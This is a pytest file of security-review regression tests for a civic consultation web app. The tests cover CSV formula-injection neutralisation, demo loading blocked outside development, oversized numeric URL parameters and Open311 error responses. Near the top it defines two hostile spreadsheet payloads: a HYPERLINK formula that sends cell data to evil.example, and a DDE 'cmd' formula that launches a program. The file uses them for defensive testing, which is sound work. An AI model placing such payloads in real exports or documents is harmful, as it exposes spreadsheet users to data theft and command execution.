"""Findings of the security review: each test shows the defect it closes."""
from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import select

from participa.csv_export import FORMULA_STARTS
from participa.extensions import db
from participa.models import User

from conftest import login_with_code

pytest_plugins = ["factories_consultations"]

HOSTILE = '=HYPERLINK("https://evil.example/?d="&A1,"Ver")'
HOSTILE_REASON = "@SUM(1+1)*cmd|' /C calc'!A0"


# --- CSV exports: formula injection ---------------------------------------------------------

def _csv_rules(app):
    return sorted((rule for rule in app.url_map.iter_rules() if rule.rule.endswith(".csv")),
                  key=lambda rule: rule.rule)


@pytest.fixture
def hostile_data(app, people, institutions, make_consultation):
    """A closed consultation with a question and a comment, an institution, a person and
    audit entries, all with text that a spreadsheet would run as a formula."""
    from participa.ballots import service as ballots
    from participa.consultations import comments
    from participa.models import Stance
    from participa.models.audit import record

    from factories_consultations import shift

    consultation = make_consultation(phase="draft")
    ballots.add_question(people["official_msp"], consultation, text=HOSTILE, max_choices=1,
                         options_text=f"{HOSTILE}\n-1 No")
    db.session.commit()
    shift(consultation, opens_days=-1, closes_days=10)
    comments.add_comment(people["citizen"], consultation, body=HOSTILE, stance=Stance.FOR)
    db.session.commit()
    shift(consultation, opens_days=-30, closes_days=-2)
    people["admin_mdt"].name = HOSTILE
    institutions["MDT"].name = HOSTILE
    for institution in institutions.values():
        record("moderation.hidden", actor=people["admin_mdt"], institution=institution,
               reason=HOSTILE_REASON)
    db.session.commit()
    return {"consultation_id": consultation.id, "acronym": "MDT",
            "slug": "uso-contacto-ciudadano"}


def test_every_csv_route_is_known(app):
    rules = _csv_rules(app)
    assert len(rules) >= 6
    for rule in rules:
        assert rule.arguments <= {"consultation_id", "acronym", "slug"}, rule.rule


def _csv_rule_ids():
    from conftest import make_app
    import tempfile
    from pathlib import Path

    app = make_app(Path(tempfile.mkdtemp()))
    return [rule.rule for rule in _csv_rules(app)]


@pytest.mark.parametrize("path", _csv_rule_ids())
def test_csv_exports_neutralise_formulas(app, client, people, hostile_data, path):
    login_with_code(client, people["platform_admin"])
    url = path
    for name, value in hostile_data.items():
        url = url.replace(f"<int:{name}>", str(value)).replace(f"<{name}>", str(value))
    response = client.get(url)
    assert response.status_code == 200, url
    assert response.mimetype == "text/csv"
    text = response.get_data(as_text=True).lstrip("\ufeff")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert cells
    dangerous = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert dangerous == [], url
    if "registro" in url or "comentarios" in url or "resultados" in url:
        assert "'" + HOSTILE in cells or "'" + HOSTILE_REASON in cells, url


# --- participa demo: development and testing only -------------------------------------------

@pytest.mark.parametrize("env_name", ["production", "staging"])
def test_demo_refuses_outside_development_and_testing(app, env_name):
    from participa import demo

    app.config["ENV_NAME"] = env_name
    result = app.test_cli_runner().invoke(args=["participa", "demo"])
    assert result.exit_code != 0
    assert "PARTICIPA_ENV" in result.output
    assert not demo.is_loaded()
    assert db.session.scalar(select(User.id).limit(1)) is None


def test_demo_still_loads_in_development(app):
    from participa import demo

    app.config["ENV_NAME"] = "development"
    result = app.test_cli_runner().invoke(args=["participa", "demo"])
    assert result.exit_code == 0, result.output
    assert demo.is_loaded()


# --- integers from outside: bounded in one place ---------------------------------------------

HUGE = "99999999999999999999999"


@pytest.mark.parametrize("path", [
    f"/consultas/{HUGE}",
    f"/consultas/{HUGE}/comentarios.csv",
    "/consultas/%C2%B2",
    f"/consultas?pagina={HUGE}",
    f"/casos/nuevo?pagina={HUGE}",
    f"/propuestas/?pagina={HUGE}",
])
def test_huge_numbers_in_the_address_are_not_found(client, path):
    assert client.get(path).status_code == 404


def test_odd_page_numbers_fall_back_to_the_first_page(client):
    for value in ("abc", "-3", "²", "0"):
        assert client.get(f"/consultas?pagina={value}").status_code == 200


@pytest.mark.parametrize("value", [HUGE, "²", "٣"])
def test_a_category_filter_that_is_not_a_category_is_a_form_error(client, people,
                                                                   institutions, value):
    from factories_cases import make_category

    make_category(institutions["MSP"])
    login_with_code(client, people["official_msp"])
    response = client.get("/casos/institucion/MSP", query_string={"categoria": value})
    assert response.status_code == 200


@pytest.mark.parametrize("value", [HUGE, "²"])
def test_a_huge_category_on_the_case_form_is_a_form_error(client, people, institutions,
                                                          value):
    from factories_cases import make_category
    from participa.models import Case

    make_category(institutions["MSP"])
    login_with_code(client, people["citizen"])
    response = client.post("/casos/nuevo/MSP", data={
        "type": "complaint", "category": value, "subject": "Demora en la cita",
        "description": "Solicité una cita hace dos meses.", "province": ""})
    assert response.status_code == 400
    page = response.get_data(as_text=True)
    assert "Demora en la cita" in page and "Solicité una cita hace dos meses." in page
    assert db.session.scalar(select(Case.id).limit(1)) is None


OPEN311 = "/open311/v2"


@pytest.mark.parametrize("path", [
    f"{OPEN311}/requests/%C2%B2.json",
    f"{OPEN311}/requests/{HUGE}.json",
    f"{OPEN311}/services/%C2%B2.json",
    f"{OPEN311}/services/{HUGE}.json",
    f"{OPEN311}/nada.json",
    f"{OPEN311}/services.html",
])
def test_open311_not_found_answers_in_json(client, path):
    response = client.get(path)
    assert response.status_code == 404
    assert response.mimetype == "application/json"
    body = response.get_json()
    assert body[0]["code"] == 404 and body[0]["description"]


@pytest.mark.parametrize("path", [
    f"{OPEN311}/requests/%C2%B2.xml",
    f"{OPEN311}/requests/{HUGE}.xml",
    f"{OPEN311}/nada.xml",
])
def test_open311_not_found_answers_in_xml(client, path):
    from xml.etree import ElementTree

    response = client.get(path)
    assert response.status_code == 404
    assert response.mimetype == "text/xml"
    root = ElementTree.fromstring(response.data)
    assert root.tag == "errors" and root.find("error/code").text == "404"


def test_open311_wrong_method_and_bad_ids_answer_in_its_format(client):
    response = client.put(f"{OPEN311}/requests.json")
    assert response.status_code == 405
    assert response.get_json()[0]["code"] == 405
    response = client.get(f"{OPEN311}/requests.json",
                          query_string={"service_request_id": f"²,{HUGE},7",
                                        "service_code": f"²,{HUGE}"})
    assert response.status_code == 200 and response.get_json() == []
    response = client.get(f"{OPEN311}/requests.json",
                          query_string={"service_code": f"²,{HUGE}"})
    assert response.status_code == 200 and response.get_json() == []
